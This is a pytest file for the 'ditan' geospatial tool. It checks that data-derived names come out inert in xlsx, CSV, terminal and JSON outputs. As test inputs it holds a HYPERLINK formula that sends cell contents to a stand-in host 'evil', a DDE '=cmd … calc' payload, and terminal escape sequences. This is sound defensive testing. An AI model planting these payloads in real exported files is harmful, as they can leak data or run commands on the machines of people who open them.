"""Text from data is inert in every output (issue 16, parts 2 and 6): never a formula, never a control sequence.

The rules (ditan.spatial.io.inert) are checked one by one with expectations written out by hand (OWASP's CSV
injection advice: a text starting with = + - @ tab or CR gets a leading ``'``); then `ditan run`, `ditan screen`
and `ditan check-parcels` are run as a user runs them (the CLI, in a subprocess) on the Beijing sample with
hostile unit and parcel names, and every xlsx is read back as XML (no ``<f>`` anywhere, names typed as strings),
every CSV as text, the terminal output byte by byte, data_quality.csv for the counts and manifest.json as
strict JSON.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import math
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest
import yaml

from ditan.pipelines.cli.console import InertLog, _escape, inert_excepthook
from ditan.pipelines.outputs import files as write
from ditan.spatial.io.inert import (
    AS_TEXT,
    CLEANED,
    clean_text_columns,
    csv_cell,
    strip_controls,
    terminal_text,
    xlsx_cell,
)
from ditan.spatial.io.validate import Ledger
from ditan.spatial.standards.registry import Indicator

ROOT = Path(__file__).resolve().parents[1]
DATA = ROOT / "data" / "beijing_haidian_tsinghua"
HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"click")'
#: unit id → the name the test gives it, and what a CSV cell of it must read (worked out by hand, OWASP)
NAMES = {
    "U001": (HYPERLINK, "'" + HYPERLINK),
    "U002": ("+1+2", "'+1+2"),
    "U003": ("-3", "'-3"),
    "U004": ("@SUM(A1)", "'@SUM(A1)"),
    "U005": ("bell\x07 esc\x1b[31mred\x1b[0m tab\tend", "bell escred tab\tend"),
    "U006": ("[bold red]x[/]", "[bold red]x[/]"),
    "U007": ("\tleading tab", "'\tleading tab"),
}
#: by hand: U001–U004 and U007 start with = + - @ or tab; U005's name and U008's id hold control characters
FORMULA_NAMES, CONTROL_NAMES, CONTROL_IDS = 5, 1, 1


def _sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {
            n: z.read(n).decode("utf-8")
            for n in z.namelist()
            if n.startswith("xl/worksheets/sheet")
        }


def _csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def _strict_json(path: Path) -> dict:
    def refuse(token: str) -> None:
        raise ValueError(f"not strict JSON: {token}")

    return json.loads(path.read_text(encoding="utf-8"), parse_constant=refuse)


# --- the rules ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+86 10 1234", "'+86 10 1234"),
        ("-5", "'-5"),  # a text, not a number: OWASP's rule
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=x", "=x"),  # CR is a control character: removed first, then the text starts with =
        ("a=b", "a=b"),
        ("清华大学", "清华大学"),
        ("", ""),
        ("a\x07b", "ab"),
        ("\x1b[31mred\x1b[0m", "red"),  # the whole escape sequence goes
    ],
)
def test_csv_cell_follows_owasp(text, cell):
    want = "'" + cell if text == "\r=x" else cell  # "\r=x" → "=x" → "'=x"
    assert csv_cell(text) == want


@pytest.mark.parametrize("value", [-3, -3.5, 0, 1e9, None, True, np.float64(-2.25)])
def test_csv_cell_leaves_what_is_not_text(value):
    assert csv_cell(value) is value


def test_control_characters_removed_but_tab_and_line_feed():
    every = "".join(map(chr, range(0x20))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0)))
    assert strip_controls(every) == "\t\n"
    assert (
        strip_controls("a\x1b]0;title\x07b\x1bMc") == "abc"
    )  # OSC (window title) and a bare ESC + one
    assert xlsx_cell("x\x0by") == "xy" and xlsx_cell(-1.5) == -1.5


def test_a_column_of_negative_numbers_stays_numeric_in_csv(tmp_path):
    df = pd.DataFrame(
        {
            "change_pct": [-1.5, -20.0, np.nan],
            "name": ["-1.5", "a", "=x"],
            "mixed": [-3, "-3", None],
        },
        index=pd.Index(["=id", "b", "c"], name="unit_id"),
    )
    write.write_csv(tmp_path / "t.csv", df)
    assert _csv_rows(tmp_path / "t.csv") == [
        ["unit_id", "change_pct", "name", "mixed"],
        ["'=id", "-1.5", "'-1.5", "-3"],
        ["b", "-20.0", "a", "'-3"],
        ["c", "", "'=x", ""],
    ]
    assert df.loc["=id", "name"] == "-1.5"  # the caller's frame is not changed


def test_csv_text_of_every_storage_is_treated(tmp_path):
    arrow = pd.Series(["x\x1b[31my", "\x1b]0;t\x07z", "ok", "\x9bq", "-1"])  # pandas' str dtype
    objects = arrow.astype(object)
    for col in (arrow, objects, arrow.astype("category")):
        write.write_csv(tmp_path / "s.csv", pd.DataFrame({"a": col}))
        assert [r[1] for r in _csv_rows(tmp_path / "s.csv")] == ["a", "xy", "z", "ok", "q", "'-1"]


def _workbook(tmp_path: Path) -> Path:
    table = pd.DataFrame(
        {"name": [HYPERLINK, "a\x07b", "#N/A"], "change_pct": [-1.5, 2.0, np.nan]},
        index=pd.Index(["U1", "U2", "+U3"], name="unit_id"),
    )
    columns = {"change_pct": Indicator("change_pct", "变化", "change", unit="%")}
    quality = pd.DataFrame({"layer": ["units"], "note": ["-from data"]})
    path = tmp_path / "t.xlsx"
    write.write_xlsx(path, table, columns, quality, extra_sheets={"x": table.reset_index()})
    return path


def test_xlsx_text_is_a_string_cell_never_a_formula(tmp_path):
    path = _workbook(tmp_path)
    sheets = _sheet_xml(path)
    assert sheets and not any(re.search(r"<f[ >]", x) for x in sheets.values())
    first = sheets["xl/worksheets/sheet1.xml"]
    cell = re.search(r'<c r="B3"([^>]*)>(.*?)</c>', first)
    assert cell and re.search(r't="(inlineStr|s|str)"', cell.group(1))
    ws = openpyxl.load_workbook(path).worksheets[0]
    # rows 1–2 are the Chinese and English headers
    assert [(c.value, c.data_type) for c in ws[3][:3]] == [
        ("U1", "s"),
        (HYPERLINK, "s"),
        (-1.5, "n"),
    ]
    assert ws["B4"].value == "ab" and ws["A5"].value == "+U3" and ws["A5"].data_type == "s"
    assert ws["C5"].value is None  # NaN: an empty cell
    assert (ws["B5"].value, ws["B5"].data_type) == ("#N/A", "s")  # text, not Excel's error value
    q = openpyxl.load_workbook(path)["数据质量 data quality"]
    assert (q["B2"].value, q["B2"].data_type) == ("-from data", "s")


def test_clean_text_columns_counts_what_it_changes():
    df = pd.DataFrame(
        {"name": ["=a", "b\x07", "-\x1b[1mc", None, "d"], "area_m2": [-1.0, 2, 3, 4, 5]},
        index=pd.Index(["u1", "u\x002", "u3", "u4", "@u5"], name="unit_id"),
    )
    ledger = Ledger()
    out = clean_text_columns(df, ["name", "area_m2"], ledger, "units", index=True)
    assert out["name"].fillna("<none>").tolist() == ["=a", "b", "-c", "<none>", "d"]
    assert out.index.tolist() == ["u1", "u2", "u3", "u4", "@u5"]
    assert out["area_m2"].tolist() == [-1.0, 2, 3, 4, 5]
    # by hand: names "b\x07" and "-\x1b[1mc" cleaned; "=a" and "-c" start like formulas; id "u\x002" cleaned, "@u5"
    assert dict(ledger.layer("units").flagged) == {
        f"name: {CLEANED}": 2,
        f"name: {AS_TEXT}": 2,
        f"unit_id: {CLEANED}": 1,
        f"unit_id: {AS_TEXT}": 1,
    }
    assert df.loc["u1", "name"] == "=a" and df.index[1] == "u\x002"  # the input is not changed
    clean = Ledger()
    same = pd.DataFrame({"name": ["a", "b"]})
    assert clean_text_columns(same, ["name"], clean, "x") is same and not clean.records


def test_terminal_and_log_show_control_characters_escaped():
    assert terminal_text("a\x1b[31mb\x07\tc\n") == "a\\x1b[31mb\\x07\tc\n"
    assert _escape("[bold red]x[/]\x1b") == "\\[bold red]x\\[/]\\x1b"
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.addFilter(InertLog())
    log = logging.getLogger("ditan.test_inert_text")
    log.addHandler(handler)
    log.propagate = False
    try:
        log.warning("unit %s: %d", "x\x1b[2Jy", 3)
    finally:
        log.removeHandler(handler)
    assert stream.getvalue() == "unit x\\x1b[2Jy: 3\n"


def test_an_unexpected_traceback_shows_control_characters_escaped(capsys):
    try:
        raise RuntimeError("bad name \x1b[2J\x07")
    except RuntimeError as exc:
        inert_excepthook(type(exc), exc, exc.__traceback__)
    err = capsys.readouterr().err
    assert "RuntimeError: bad name \\x1b[2J\\x07" in err and "\x1b" not in err


def test_manifest_json_is_strict(tmp_path):
    data = {
        "timings_s": {"load": float("nan"), "write": np.float64(1.5)},
        "network": {"mean_snap_m": np.float64("inf"), "edges": np.int64(7), "neg": -math.inf},
        np.int64(3): [np.nan, 1, np.bool_(True)],
        "path": tmp_path,
        "na": pd.NA,
        "arr": np.array([1.0, np.nan]),
        "name": "a\x1b[31m",
    }
    write.write_json(tmp_path / "m.json", data)
    got = _strict_json(tmp_path / "m.json")
    assert got == {
        "timings_s": {"load": None, "write": 1.5},
        "network": {"mean_snap_m": None, "edges": 7, "neg": None},
        "3": [None, 1, True],
        "path": str(tmp_path),
        "na": None,
        "arr": [1.0, None],
        "name": "a\x1b[31m",  # JSON escapes it (\u001b): inert text, the value kept
    }
    assert "\\u001b" in (tmp_path / "m.json").read_text(encoding="utf-8")


# --- the jobs, end to end through the CLI --------------------------------------------------------------------


def _ditan(*args: object, cwd: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "COLUMNS": "200", "PYTHONIOENCODING": "utf-8"}
    return subprocess.run(
        [sys.executable, "-m", "ditan.pipelines.cli", *map(str, args)],
        cwd=cwd,
        capture_output=True,
        text=True,
        encoding="utf-8",
        env=env,
        timeout=300,
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """The Beijing sample with units and parcels for sale named by an attacker (and a scenario adding one)."""
    tmp = tmp_path_factory.mktemp("hostile")
    units = gpd.read_file(DATA / "units.gpkg")
    for uid, (name, _) in NAMES.items():
        units.loc[units["unit_id"] == uid, "name"] = name
    units.loc[units["unit_id"] == "U008", "unit_id"] = "U008\x1b[2J"
    units.to_file(tmp / "units.gpkg", driver="GPKG", layer="units")
    parcels = gpd.read_file(DATA / "parcels_for_sale.gpkg", layer="parcels_for_sale")
    parcels.loc[0, "name"] = HYPERLINK
    parcels.loc[1, "name"] = "-3\x1b[31m"
    parcels.to_file(tmp / "parcels.gpkg", driver="GPKG", layer="parcels_for_sale")
    for name in ("beijing_haidian", "beijing_land_sale"):
        cfg = yaml.safe_load((ROOT / "pipelines" / "configs" / f"{name}.yaml").read_text("utf-8"))
        cfg["inputs"]["osm"]["path"] = str(DATA / "map.osm.pbf")
        cfg["inputs"]["units"]["path"] = str(tmp / "units.gpkg")
        cfg["inputs"]["units"]["layer"] = "units"
        if "land_sale" in cfg:
            cfg["land_sale"]["parcels"]["path"] = str(tmp / "parcels.gpkg")
        (tmp / f"{name}.yaml").write_text(yaml.safe_dump(cfg, allow_unicode=True), "utf-8")
    # a kindergarten added by a scenario, named like a DDE payload, at the middle of U001
    x, y = units.loc[units["unit_id"] == "U001"].geometry.iloc[0].representative_point().coords[0]
    (tmp / "plan.csv").write_text(
        f"action,layer,category,name,lon,lat\nadd,facility,kindergarten,\"=cmd|' /C calc'!A0\",{x!r},{y!r}\n",
        encoding="utf-8",
    )
    return tmp


@pytest.fixture(scope="module")
def ran(hostile) -> tuple[Path, subprocess.CompletedProcess]:
    out = hostile / "run"
    res = _ditan(
        "run",
        hostile / "beijing_haidian.yaml",
        "--out",
        out,
        "--scenario",
        hostile / "plan.csv",
        cwd=hostile,
    )
    assert res.returncode == 0, res.stderr
    return out, res


def _assert_no_formula_anywhere(path: Path) -> None:
    sheets = _sheet_xml(path)
    assert sheets
    for name, xml in sheets.items():
        assert not re.search(r"<f[ >]", xml), f"{path.name} {name} holds a formula"


def _names_in_first_column_of(ws, col: int, first_row: int) -> dict[str, tuple[object, str]]:
    return {
        ws.cell(r, 1).value: (ws.cell(r, col).value, ws.cell(r, col).data_type)
        for r in range(first_row, ws.max_row + 1)
    }


def test_run_indicators_xlsx_holds_the_names_as_strings(ran):
    out, _ = ran
    _assert_no_formula_anywhere(out / "indicators.xlsx")
    _assert_no_formula_anywhere(out / "scenario.xlsx")
    ws = openpyxl.load_workbook(out / "indicators.xlsx").worksheets[0]
    got = _names_in_first_column_of(ws, 2, 3)
    for uid, (name, _) in NAMES.items():
        assert got[uid] == (strip_controls(name), "s")
    assert "U008" in got  # its id lost its control characters
    sc = openpyxl.load_workbook(out / "scenario.xlsx")["方案 scenario"]
    texts = [c for row in sc.iter_rows() for c in row if isinstance(c.value, str)]
    payload = [c for c in texts if c.value.startswith("=cmd")]
    assert payload and all(c.data_type == "s" for c in payload)


def test_run_csvs_prefix_formula_names_and_drop_control_characters(ran):
    out, _ = ran
    rows = {r[0]: r for r in _csv_rows(out / "indicators.csv")[1:]}
    head = _csv_rows(out / "indicators.csv")[0]
    at = head.index("name")
    for uid, (_, cell) in NAMES.items():
        assert rows[uid][at] == cell
    assert "U008" in rows
    for name in ("compliance.csv", "scenario_comparison.csv", "scenario_indicators.csv"):
        text = (out / name).read_text(encoding="utf-8-sig")
        assert "'" + HYPERLINK.replace('"', '""') in text, name
        assert "\x1b" not in text and "\x07" not in text, name
    for name in os.listdir(out):
        if name.endswith(".csv"):
            for row in _csv_rows(out / name):
                assert not any(c[:1] in ("=", "+", "@") for c in row), name


def test_run_data_quality_counts_what_was_changed(ran):
    out, _ = ran
    q = pd.read_csv(out / "data_quality.csv", encoding="utf-8-sig").set_index("layer")
    why = q.loc["units", "flagged_why"]
    assert re.search(rf"name: control characters removed 已删除控制字符: {CONTROL_NAMES}(;|$)", why)
    assert re.search(rf"name: starts with = \+ - @ tab or CR[^:]*: {FORMULA_NAMES}(;|$)", why)
    assert re.search(
        rf"unit_id: control characters removed 已删除控制字符: {CONTROL_IDS}(;|$)", why
    )
    assert q.loc[
        "units", "balanced"
    ]  # counted as flagged: features read = kept + repaired + dropped still


def test_run_terminal_output_and_manifest(ran):
    out, res = ran
    shown = res.stdout + res.stderr
    assert "\x1b" not in shown and "\x07" not in shown
    assert "[bold red]x[/]" in shown  # data shown as it is, not read as markup
    assert "bell escred tab" in shown
    manifest = _strict_json(out / "manifest.json")
    assert manifest["units"] == 15


def test_screen_outputs_are_inert(hostile):
    out = hostile / "screen"
    res = _ditan("screen", hostile / "beijing_haidian.yaml", "--out", out, cwd=hostile)
    assert res.returncode == 0, res.stderr
    assert "\x1b" not in res.stdout + res.stderr
    _assert_no_formula_anywhere(out / "screening.xlsx")
    wb = openpyxl.load_workbook(out / "screening.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    evil = [c for c in cells if c.value == HYPERLINK]
    assert evil and all(c.data_type == "s" for c in evil)
    assert not any(isinstance(c.value, str) and "\x1b" in c.value for c in cells)
    text = (out / "screening.csv").read_text(encoding="utf-8-sig")
    assert (
        "'" + HYPERLINK.replace('"', '""') in text and ",'+1+2," in text and ",'@SUM(A1)," in text
    )


def test_check_parcels_outputs_are_inert(hostile):
    out = hostile / "sale"
    res = _ditan("check-parcels", hostile / "beijing_land_sale.yaml", "--out", out, cwd=hostile)
    assert res.returncode == 0, res.stderr
    assert "\x1b" not in res.stdout + res.stderr
    # the precheck writes no data-quality table: the counts are warnings
    assert re.search(r"name: control characters removed 已删除控制字符: 1", res.stderr)
    _assert_no_formula_anywhere(out / "parcel_check.xlsx")
    ws = openpyxl.load_workbook(out / "parcel_check.xlsx").worksheets[0]
    col = [c.value for c in ws[1]].index("parcel_name") + 1
    got = _names_in_first_column_of(ws, col, 2)
    assert got["BJ-01"] == (HYPERLINK, "s") and got["BJ-02"] == ("-3", "s")
    rows = {r[0]: r for r in _csv_rows(out / "parcel_summary.csv")}
    at = rows["parcel_id"].index("parcel_name")
    assert rows["BJ-01"][at] == "'" + HYPERLINK and rows["BJ-02"][at] == "'-3"
